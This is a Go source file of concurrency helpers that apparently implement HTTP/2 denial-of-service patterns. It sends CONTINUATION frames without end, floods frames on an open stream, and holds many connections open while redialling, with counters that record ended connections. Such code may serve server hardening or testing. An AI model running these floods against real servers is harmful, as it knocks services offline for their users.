package main

import (
	"context"
	"sync"
	"time"
)

// endless sends a header block that repeats the same bytes without end.
func endless(r *raw, block, more []byte) error {
	if err := r.headers(block, false, false); err != nil {
		return err
	}
	for {
		if err := r.WriteContinuation(r.stream, false, more); err != nil {
			return err
		}
	}
}

// flood sends one frame without end on a connection with a running call.
func flood(frame func(r *raw) error) func(ctx context.Context, count *counters) {
	return openAnd(func(r *raw) error {
		if err := r.headers(r.fields(pathExists), true, false); err != nil {
			return err
		}
		for {
			if err := frame(r); err != nil {
				return err
			}
		}
	})
}

// openAnd opens a connection and runs do on it until that ends.
func openAnd(do func(r *raw) error) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		r, err := open(ctx, count)
		if err != nil {
			return
		}
		if do(r) != nil {
			count.ended.Add(1)
		}
		r.Close()
	}
}

// again runs do repeatedly on four connections.
func again(do func(ctx context.Context, count *counters)) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		each(ctx, 4, func(int) {
			for ctx.Err() == nil {
				do(ctx, count)
			}
		})
	}
}

// crowd keeps size connections open and dials again for each that ends.
func crowd(size int, do func(ctx context.Context, r *raw)) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		each(ctx, size, func(int) {
			for ctx.Err() == nil {
				if r, err := dial(ctx, count); err == nil {
					do(ctx, r)
					r.Close()
					if ctx.Err() == nil {
						count.ended.Add(1)
					}
				}
				time.Sleep(100 * time.Millisecond)
			}
		})
	}
}

// each runs do times times concurrently and waits for all.
func each(ctx context.Context, times int, do func(i int)) {
	var all sync.WaitGroup
	for i := 0; i < times; i++ {
		all.Add(1)
		go func() {
			defer all.Done()
			do(i)
		}()
	}
	all.Wait()
}
